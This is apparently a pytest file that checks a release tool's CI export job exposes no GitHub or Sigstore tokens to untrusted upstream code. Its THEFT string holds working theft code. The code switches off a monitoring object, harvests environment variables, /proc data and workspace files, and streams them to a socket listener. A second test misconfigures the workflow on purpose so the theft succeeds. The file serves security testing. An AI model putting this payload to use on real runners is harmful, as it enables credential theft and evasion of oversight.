"""Upstream's code looks for secrets in the export job, and finds none: the job has none."""

import contextlib
import shutil
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import Any

import pytest

from release_tool.recipes.toml.writing import write_recipe
from release_tool.rehearsal.upstream import MODULE
from tests.workflows.conftest import commit_upstream, pin

EXPORT = "Export"
# What a thief would try: its own environment, that of every process of the job above it, and
# every file that the job's directories hold; all of it is sent away. The watch on files and
# connections is for honest code, so a thief turns it off first.
THEFT = """
import gc, os, pathlib, socket

for found in gc.get_objects():
    if type(found).__name__ == "Watch":
        found.active = False

def loot():
    yield repr(dict(os.environ))
    places, pid = [], os.getpid()
    while pid > 1:
        process = pathlib.Path("/proc", str(pid))
        try:
            variables = process.joinpath("environ").read_bytes().decode(errors="replace")
            yield variables + process.joinpath("cmdline").read_text(errors="replace")
            if pid != os.getpid() and "GITHUB_WORKSPACE=" not in variables:
                break  # the machine's own processes
            for text in variables.split("\\0"):
                name, _, value = text.partition("=")
                if name in ("HOME", "RUNNER_TEMP", "GITHUB_WORKSPACE"):
                    places.append(pathlib.Path(value))
            pid = int(process.joinpath("stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
    for place in set(places):
        for folder, names, files in os.walk(place):
            names[:] = [name for name in names if name not in ("release-tool", "objects", "python")]
            for name in files:
                path = pathlib.Path(folder, name)
                try:
                    if path.stat().st_size < 100_000:
                        yield f"{path}\\n{path.read_text(errors='replace')}"
                except OSError:
                    pass

with socket.create_connection(("127.0.0.1", PORT), 10) as receiver:
    for text in loot():
        receiver.sendall(text.encode(errors="replace") + b"\\n\\n")
"""


@dataclass
class Receiver:
    """Where the thief sends what it finds."""

    listener: socket.socket
    received: list[bytes] = field(default_factory=list)
    thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def listen(self) -> None:
        """Take what is sent, until somebody hangs up without a word."""
        while True:
            peer, _ = self.listener.accept()
            with peer, peer.makefile("rb") as stream:
                content = stream.read()
            if not content:
                return
            self.received.append(content)

    def loot(self) -> str:
        """Stop, and return all that came; the thief has hung up, for its job has ended."""
        if self.thread is not None:
            socket.create_connection(("127.0.0.1", self.port)).close()
            self.thread.join(30)
            self.thread = None
        return b"".join(self.received).decode(errors="replace")


@contextlib.contextmanager
def open_receiver() -> Iterator[Receiver]:
    """Listen in a thread until the loot is fetched, or the block ends."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        receiver = Receiver(listener)
        receiver.thread = threading.Thread(target=receiver.listen, daemon=True)
        receiver.thread.start()
        yield receiver
        receiver.loot()


@pytest.fixture
def robbed(project) -> Iterator[tuple[Any, Receiver]]:
    """The project with an upstream that steals, and where the loot goes."""
    with open_receiver() as receiver:
        module = THEFT.replace("PORT", str(receiver.port)) + MODULE
        thief = project.place / "thief"
        checkout, commit = commit_upstream(thief, module)
        recipe = pin(project.recipe, project.git.address(checkout), module, commit)
        tree = project.services.sources.own_tree
        file = tree / "thief.toml"
        file.write_text(write_recipe(recipe))
        yield replace(project, recipe=recipe), receiver
        file.unlink()
        shutil.rmtree(thief)


def secrets_of(project) -> list[str]:
    """What a thief would like to have: GitHub's token, and what identity tokens are had with."""
    sigstore = project.services.sigstore
    variables = sigstore.actions_environment()
    return [
        project.services.github.token,
        sigstore.issuer_service.bearer,
        variables["ACTIONS_ID_TOKEN_REQUEST_URL"],
    ]


def test_upstream_code_finds_no_token_of_any_kind_in_the_export_job(robbed):
    project, receiver = robbed
    run = project.run(recipe="thief.toml").go(until="export")
    assert run.jobs["export"].result == "success", run.jobs["export"].log
    loot = receiver.loot()
    for seen in ("GITHUB_WORKSPACE=", "RUNNER_TEMP=", "repositoryformatversion", "thief.toml"):
        assert seen in loot, f"the thief did not even find {seen}"
    for secret in secrets_of(project):
        assert secret not in loot
    assert "\0GITHUB_RUN_ID=" in loot  # so would a token's variable stand in an environment
    for name in ("GH_TOKEN", "GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "SIGSTORE_ID_TOKEN"):
        assert f"\0{name}=" not in loot


def make_every_mistake(workflow) -> None:
    """Hand a token to the step, let checkout keep it, and give the job an identity."""
    job = workflow["jobs"]["export"]
    job["permissions"]["id-token"] = "write"
    for step in job["steps"]:
        if step["name"] == EXPORT:
            step["env"] = {"GH_TOKEN": "${{ github.token }}"}
        if "persist-credentials" in step.get("with", {}):
            step["with"]["persist-credentials"] = True


def test_the_thief_finds_each_token_if_the_workflow_makes_a_mistake(robbed):
    project, receiver = robbed
    run = project.run(make_every_mistake, recipe="thief.toml").go(until="export")
    assert run.jobs["export"].result == "success", run.jobs["export"].log
    loot, (token, bearer, url) = receiver.loot(), secrets_of(project)
    assert f"\0GH_TOKEN={token}\0" in loot
    assert f"AUTHORIZATION: bearer {token}\n" in loot
    assert f"\0ACTIONS_ID_TOKEN_REQUEST_TOKEN={bearer}\0" in loot
    assert url in loot
